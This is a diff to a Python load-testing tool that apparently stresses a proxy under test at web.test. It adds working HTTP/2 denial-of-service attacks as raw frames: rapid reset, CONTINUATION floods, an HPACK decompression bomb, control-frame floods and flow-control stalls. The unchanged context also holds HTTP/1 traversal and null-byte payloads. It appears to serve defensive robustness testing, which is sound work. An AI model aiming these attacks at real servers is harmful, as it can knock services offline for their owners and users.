@@ -1,4 +1,4 @@
-"""Attacks on an HTTP/1 door from many connections at a stated rate. A program of its own, so that it runs on another core than
+"""Attacks on a door from many connections at a stated rate. A program of its own, so that it runs on another core than
 the client whose answers are measured:
 
     attacker.py NAME PORT CONNECTIONS RATE SECONDS       RATE: actions a second over all connections
@@ -34,6 +34,22 @@ def hello():
 
 
 HELLO = hello()
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
+CANCEL = b"\0\0\0\x08"
+HEAD = b"\x82\x86\x84\x01\x08web.test"  # GET http / of web.test
+BIG_HEAD = b"\x82\x86\x04\x04/big\x01\x08web.test"
+POST_HEAD = b"\x83\x86\x84\x01\x08web.test"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def get(stream, head=HEAD):
+    return frame(HEADERS, 5, stream, head)
 
 
 class Attacker:
@@ -182,6 +198,66 @@ class Attacker:
         await self.shoot(random.choice([b"GET /%00 HTTP/1.1\r\nHost: web.test\r\n\r\n", b"GET /a/../../x HTTP/1.1\r\nHost: web.test\r\n\r\n",
                                         b"GET /" + b"%2e/" * 2000 + b" HTTP/1.1\r\nHost: web.test\r\n\r\n", b"\0" * 8000, b"\n" * 8000]))
 
+    # HTTP/2, with prior knowledge. Each goes on with a new connection once the proxy has had enough.
+
+    async def h2(self, first, more, settings=b"", rcvbuf=0):
+        """A connection that says `first`, then more(n), where n is the next unused stream, at every tick."""
+        s = await self.open(rcvbuf)
+        stream = 1
+        try:
+            await self.put(s, PREFACE + frame(SETTINGS, 0, 0, settings) + first)
+            while self.running():
+                data, count = more(stream)
+                stream += 2 * count
+                await self.put(s, data)
+                await self.tick()
+                if not rcvbuf and await self.get(s) == b"":
+                    return
+        finally:
+            s.close()
+
+    async def t1_rapid_reset(self):
+        await self.h2(b"", lambda n: (b"".join(get(i) + frame(RST, 0, i, CANCEL) for i in range(n, n + 20, 2)), 10))
+
+    async def t2_made_you_reset(self):
+        await self.h2(b"", lambda n: (b"".join(get(i) + frame(WINDOW, 0, i, b"\0\0\0\0") for i in range(n, n + 20, 2)), 10))
+
+    async def t3_continuations(self):
+        await self.h2(frame(HEADERS, 0, 1, HEAD), lambda n: (frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 20, 0))
+
+    async def t4_hpack_bomb(self):
+        block = HEAD + b"\x40\x01x\x7f\xe1\x1e" + b"v" * 4000 + b"\xbe" * 10000  # one field, then itself again and again
+        await self.h2(b"", lambda n: (frame(HEADERS, 5, n, block), 1))
+
+    async def t4_cookie_crumbs(self):
+        block = HEAD + b"\x10\x06cookie\x01a" * 1500
+        await self.h2(b"", lambda n: (frame(HEADERS, 5, n, block), 1))
+
+    async def t5_pings(self):
+        await self.h2(b"", lambda n: (frame(PING, 0, 0, b"12345678") * 50, 0))
+
+    async def t5_settings(self):
+        await self.h2(b"", lambda n: (frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 50, 0))
+
+    async def t5_empty_data(self):
+        await self.h2(frame(HEADERS, 4, 1, POST_HEAD), lambda n: (frame(DATA, 0, 1) * 50, 0))
+
+    async def t5_priorities(self):
+        await self.h2(b"", lambda n: (frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50, 0))
+
+    async def t6_no_window(self):
+        await self.h2(b"".join(get(i, BIG_HEAD) for i in range(1, 101, 2)), lambda n: (frame(PING, 0, 0, b"12345678"), 0), settings=b"\0\4\0\0\0\0")
+
+    async def t6_tiny_window(self):
+        first = b"".join(get(i, BIG_HEAD) for i in range(1, 21, 2))
+        await self.h2(first, lambda n: (b"".join(frame(WINDOW, 0, i, b"\0\0\0\1") for i in range(1, 21, 2)), 0), settings=b"\0\4\0\0\0\1")
+
+    async def t13_frames_of_any_kind(self):
+        await self.h2(b"", lambda n: (frame(random.randrange(12), random.randrange(256), random.randrange(8), random.randbytes(random.randrange(40))), 0))
+
+    async def t17_unread_answers(self):
+        await self.h2(b"", lambda n: (b"".join(get(i) for i in range(n, n + 40, 2)) + frame(PING, 0, 0, b"12345678") * 10, 20), rcvbuf=2048)
+
     async def p1_no_proxy_header(self):
         await self.shoot(b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n")
 
@@ -206,7 +282,7 @@ class Attacker:
         await asyncio.gather(*(self.connection(attack) for _ in range(self.connections)))
 
 
-ATTACKS = [n for n in vars(Attacker) if n[0] in "hp" and n[1].isdigit()]
+ATTACKS = [n for n in vars(Attacker) if n[0] in "hpt" and n[1:2].isdigit()]
 
 
 def main():
